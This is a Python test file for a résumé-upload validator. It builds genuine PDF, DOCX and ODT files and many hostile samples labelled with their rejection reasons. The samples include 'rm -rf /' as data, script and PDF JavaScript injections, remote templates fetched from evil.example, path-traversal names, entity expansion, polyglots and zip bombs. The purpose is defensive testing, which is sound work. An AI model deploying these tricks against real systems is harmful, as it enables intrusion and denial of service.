"""Documents to recognise and to refuse: each with its content and, of the hostile, the reason."""

import io
import os
import struct
import tarfile
import zipfile

from ats.adapters.document_type import DocumentType
from tests.support.documents import (
    DECLARATION,
    MAIN_TYPE,
    WORD,
    archive,
    docx,
    docx_parts,
    manifest,
    odt,
    odt_parts,
    pdf,
    relationships,
)

MEGABYTE = 1024 * 1024
COMPOUND_FILE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>'
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"


def types(*overrides):
    return (
        f'{DECLARATION}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
        + "</Types>"
    )


def streamed_docx():
    """As written by programs that cannot seek back: sizes follow each member."""

    class OneWay(io.BytesIO):
        def seekable(self):
            return False

        def seek(self, *_):
            raise OSError

        def tell(self):
            raise OSError

    buffer = OneWay()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in docx_parts().items():
            written.writestr(name, content)
    return buffer.getvalue()


def updated_pdf():
    update = b"6 0 obj\n<< /Note (later) >>\nendobj\nxref\n0 0\ntrailer\n<< /Root 1 0 R >>\n"
    return pdf() + update + b"startxref\n700\n%%EOF"


GENUINE = {
    "pdf": (pdf(), DocumentType.PDF),
    "pdf without a last line break": (pdf().rstrip(), DocumentType.PDF),
    "pdf ending in zeros": (pdf() + bytes(500), DocumentType.PDF),
    "pdf after a blank line": (b"\r\n" + pdf(), DocumentType.PDF),
    "pdf after a byte order mark": (b"\xef\xbb\xbf" + pdf(), DocumentType.PDF),
    "pdf updated once": (updated_pdf(), DocumentType.PDF),
    "pdf in Chinese": (pdf("张伟 简历"), DocumentType.PDF),
    "pdf of 10 MB": (
        pdf(objects="9 0 obj\n<<>>\nendobj\n%" + "x" * (10 * MEGABYTE - 900) + "\n"),
        DocumentType.PDF,
    ),
    "docx": (docx(), DocumentType.DOCX),
    "docx in Chinese": (docx("张伟 𠮷 🎉"), DocumentType.DOCX),
    "docx streamed": (streamed_docx(), DocumentType.DOCX),
    "docx stored": (archive(docx_parts(), stored=tuple(docx_parts())), DocumentType.DOCX),
    "docx whose main part has another name": (
        docx(
            **{
                "[Content_Types].xml": types(("/word/document2.xml", MAIN_TYPE)),
                "word/document.xml": None,
                "word/document2.xml": docx_parts()["word/document.xml"],
            }
        ),
        DocumentType.DOCX,
    ),
    "docx in UTF-16": (
        docx(
            **{
                "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"/>'.encode(
                    "utf-16"
                )
            }
        ),
        DocumentType.DOCX,
    ),
    "docx made from a template on the author's disk": (
        docx(
            **{
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "file:///C:\\Users\\Lin\\Resume.dotx", "External")
                )
            }
        ),
        DocumentType.DOCX,
    ),
    "docx with a link": (
        docx(
            **{
                "word/_rels/document.xml.rels": relationships(
                    ("hyperlink", "https://example.com/lin", "External")
                )
            }
        ),
        DocumentType.DOCX,
    ),
    "docx with pictures": (
        docx(
            **{
                "word/media/photo.jpeg": b"\xff\xd8\xff\xe0" + os.urandom(200_000),
                "word/media/chart.emz": b"\x1f\x8b" + os.urandom(2000),
            }
        ),
        DocumentType.DOCX,
    ),
    "docx of much repeated text": (
        docx("".join(f"经验 {n} 年 experience " for n in range(60_000))),
        DocumentType.DOCX,
    ),
    "odt": (odt(), DocumentType.ODT),
    "odt with a folder": (odt(**{"Pictures/": b""}), DocumentType.ODT),
    "odt in Chinese": (odt("张伟 简历 🎉"), DocumentType.ODT),
}


def patched(content, position, replacement):
    return content[:position] + replacement + content[position + len(replacement) :]


def with_directory_field(content, member, offset, value):
    """Change a field of a member in the directory only."""
    position = content.rindex(member.encode()) - 46
    return patched(content, position + offset, value)


def with_flags(content, member, flags):
    return with_directory_field(content, member, 8, struct.pack("<H", flags))


def bomb(size):
    return docx(**{"word/media/x.bmp": bytes(size)})


def lying_bomb():
    """Says that it unpacks to 1000 bytes, and unpacks to 8 MB."""
    content = docx(**{"word/media/x.bmp": bytes(8 * MEGABYTE)})
    size = struct.pack("<I", 8 * MEGABYTE)
    return content.replace(size, struct.pack("<I", 1000))


def overlapping():
    """The first member's bytes reach into the others'."""
    return with_directory_field(docx(), "[Content_Types].xml", 20, struct.pack("<I", 400))


def with_gap():
    """Something hidden between the members and the directory."""
    content = docx()
    end = len(content) - 22
    directory = struct.unpack_from("<I", content, end + 16)[0]
    hidden = b"<script>alert(1)</script>" * 10
    moved = patched(content[end:], 16, struct.pack("<I", directory + len(hidden)))
    return content[:directory] + hidden + content[directory:end] + moved


def with_two_names():
    content = docx()
    position = content.index(b"word/document.xml")
    return patched(content, position, b"word/dokument.xml")


def tar_named_like_a_pdf():
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as written:
        member = tarfile.TarInfo("%PDF-1.7")
        member.size = len(pdf())
        written.addfile(member, io.BytesIO(pdf()))
    return buffer.getvalue().rstrip(b"\0") + b"\nstartxref\n9\n%%EOF"


def zip_closing_like_a_pdf():
    zipped = archive({"evil.jar": b"x"})
    return pdf().rstrip().removesuffix(b"%%EOF") + b"%" + zipped + b"\nstartxref\n9\n%%EOF"


HOSTILE = {
    "nothing": (b"", "empty"),
    "11 MB": (b"%PDF-1.7" + bytes(11 * MEGABYTE), "too_large"),
    "one byte too many": (bytes(10 * MEGABYTE + 1), "too_large"),
    "zeros": (bytes(1000), "not_a_document"),
    "plain text": ("张伟，客户服务部经理".encode(), "not_a_document"),
    "bytes that are no text": (b"\xff\xfe\xfa" * 100, "not_a_document"),
    "program named .pdf": (PROGRAM, "not_a_document"),
    "HTML": (b"<!DOCTYPE html><script>alert(1)</script>", "not_a_document"),
    "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "not_a_document"),
    "picture": (b"\x89PNG\r\n\x1a\n" + bytes(100), "not_a_document"),
    "RTF": (rb"{\rtf1 hello}", "not_a_document"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "not_a_document"),
    "Word before 2007": (COMPOUND_FILE, "old_format"),
    "Word with a password": (
        COMPOUND_FILE + "EncryptedPackage".encode("utf-16-le"),
        "encrypted",
    ),
    "pdf header only": (b"%PDF-1.7", "broken"),
    "pdf header and end only": (b"%PDF-1.7\nstartxref\n9\n%%EOF", "broken"),
    "pdf cut off": (pdf()[:-60], "broken"),
    "pdf cut off after its first end": (updated_pdf()[:-30], "broken"),
    "pdf with a password": (pdf(trailer="/Encrypt 9 0 R"), "encrypted"),
    "pdf with its encryption in the trailer": (pdf(trailer="/Encrypt<</V 4>>"), "encrypted"),
    "pdf with JavaScript": (
        pdf(objects="6 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"),
        "macros",
    ),
    "pdf starting a program": (pdf(objects="6 0 obj\n<</S/Launch/F(x)>>\nendobj\n"), "macros"),
    "pdf behind HTML": (b"<script>alert(1)</script>" + pdf(), "mixed"),
    "pdf behind much white space": (b" " * 100 + pdf(), "mixed"),
    "pdf behind a picture": (b"GIF89a" + bytes(50) + pdf(), "mixed"),
    "pdf with a zip behind": (pdf() + archive({"evil.jar": b"x"}), "mixed"),
    "pdf with an empty zip behind": (pdf() + archive({}), "mixed"),
    "pdf with a docx behind": (pdf() + docx(), "mixed"),
    "pdf with HTML behind": (pdf() + b"<script>alert(1)</script>", "mixed"),
    "pdf with a rar within": (pdf(objects="%Rar!\x1a\x07\n"), "mixed"),
    "pdf that is a zip as well": (zip_closing_like_a_pdf(), "mixed"),
    "pdf that is a tar as well": (tar_named_like_a_pdf(), "mixed"),
    "docx that is a pdf as well": (
        archive({"a": pdf(), **docx_parts()}, stored=("a",)),
        "mixed",
    ),
    "docx with HTML behind": (docx() + b"<script>alert(1)</script>", "mixed"),
    "docx with something in between": (with_gap(), "mixed"),
    "docx behind a program": (PROGRAM + docx(), "not_a_document"),
    "zip": (archive({"resume.txt": "A resume"}), "not_a_document"),
    "workbook": (
        archive(
            docx_parts()
            | {"[Content_Types].xml": types(("/xl/workbook.xml", "application/x.sheet.main+xml"))}
        ),
        "not_a_document",
    ),
    "spreadsheet": (
        odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        "not_a_document",
    ),
    "template": (odt(mimetype=odt_parts()["mimetype"] + "-template"), "not_a_document"),
    "zip cut off": (docx()[:-100], "broken"),
    "zip header only": (b"PK\x03\x04", "broken"),
    "docx with a flipped bit": (
        patched(docx(), docx().index(b"word/document.xml") + 40, b"\xff\xff"),
        "broken",
    ),
    "docx without its text": (docx(**{"word/document.xml": None}), "broken"),
    "docx without relationships": (docx(**{"_rels/.rels": None}), "broken"),
    "docx whose text is HTML": (docx(**{"word/document.xml": "<html/>"}), "broken"),
    "docx whose text is no XML": (docx(**{"word/document.xml": "A resume"}), "broken"),
    "docx with a member of two names": (with_two_names(), "broken"),
    "odt without its text": (odt(**{"content.xml": None}), "broken"),
    "odt without a manifest": (odt(**{"META-INF/manifest.xml": None}), "broken"),
    "odt whose type is not first": (
        archive(dict(sorted(odt_parts().items()))),
        "broken",
    ),
    "odt whose type is packed": (archive(odt_parts(), stored=()), "broken"),
    "docx with an encrypted member": (with_flags(docx(), "word/document.xml", 1), "encrypted"),
    "odt with a password": (
        odt(**{"META-INF/manifest.xml": manifest("<manifest:encryption-data/>")}),
        "encrypted",
    ),
    "docx with macros": (docx(**{"word/vbaProject.bin": COMPOUND_FILE}), "macros"),
    "docx with macros elsewhere": (docx(**{"X/VBAPROJECT.BIN": b"x"}), "macros"),
    "docx with macros under another name": (
        docx(
            **{
                "[Content_Types].xml": types(
                    ("/word/document.xml", MAIN_TYPE),
                    ("/word/fonts.bin", "application/vnd.ms-office.vbaProject"),
                )
            }
        ),
        "macros",
    ),
    "docm": (
        docx(
            **{
                "[Content_Types].xml": types(
                    (
                        "/word/document.xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml",
                    )
                )
            }
        ),
        "macros",
    ),
    "docx related to macros": (
        docx(
            **{"word/_rels/document.xml.rels": relationships(("vbaProject", "x.bin", "Internal"))}
        ),
        "macros",
    ),
    "odt with Basic": (odt(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "odt with Python": (odt(**{"Scripts/python/evil.py": "import os"}), "macros"),
    "docx loading a template": (
        docx(
            **{
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "https://evil.example/x.dotm", "External")
                )
            }
        ),
        "remote_content",
    ),
    "docx loading an object": (
        docx(
            **{
                "word/_rels/document.xml.rels": relationships(
                    ("oleObject", "mhtml:https://evil.example/x.html", "External")
                )
            }
        ),
        "remote_content",
    ),
    "docx loading from a share": (
        docx(
            **{
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "file://evil.example/x.dotm", "External")
                )
            }
        ),
        "remote_content",
    ),
    "docx with an archive within": (
        docx(**{"word/embeddings/x.zip": archive({"a": "b"})}),
        "embedded_file",
    ),
    "docx with an object within": (
        docx(**{"word/embeddings/oleObject1.bin": COMPOUND_FILE}),
        "embedded_file",
    ),
    "docx with a program within": (docx(**{"word/media/image1.png": PROGRAM}), "embedded_file"),
    "docx with a web page within": (
        docx(
            **{
                "[Content_Types].xml": types(
                    ("/word/document.xml", MAIN_TYPE), ("/word/afchunk.htm", "text/html")
                )
            }
        ),
        "embedded_file",
    ),
    "odt with an archive within": (odt(**{"Pictures/1.png": b"\x1f\x8b\x08"}), "embedded_file"),
    "docx with entities": (docx(**{"word/document.xml": DOCTYPE + "<x>&c;</x>"}), "unsafe_markup"),
    "docx with entities in UTF-16": (
        docx(**{"word/styles.xml": (DOCTYPE + "<x/>").encode("utf-16")}),
        "unsafe_markup",
    ),
    "docx with entities in its index": (
        docx(**{"[Content_Types].xml": DOCTYPE + "<Types/>"}),
        "unsafe_markup",
    ),
    "odt with entities": (odt(**{"content.xml": DOCTYPE + "<x/>"}), "unsafe_markup"),
    "docx leading outside": (docx(**{"../../evil.sh": "x"}), "unsafe_names"),
    "docx leading to the root": (docx(**{"/etc/passwd": "x"}), "unsafe_names"),
    "docx leading to a drive": (docx(**{"C:/evil.exe": "x"}), "unsafe_names"),
    "docx with a back slash": (docx(**{"word\\evil.xml": "x"}), "unsafe_names"),
    "docx with two of one name": (docx(**{"WORD/document.xml": "<x/>"}), "unsafe_names"),
    "bomb": (bomb(63 * MEGABYTE), "archive_bomb"),
    "bomb beyond the limit": (bomb(200 * MEGABYTE), "archive_bomb"),
    "bomb that lies": (lying_bomb(), "archive_bomb"),
    "bomb of shared bytes": (overlapping(), "archive_bomb"),
    "bomb of members": (
        docx(**{f"word/{number}.txt": "" for number in range(2001)}),
        "archive_bomb",
    ),
    "bomb of an index": (
        docx(**{"_rels/.rels": relationships() + "<!-- " + "ab1 " * 200_000 + "-->"}),
        "archive_bomb",
    ),
}
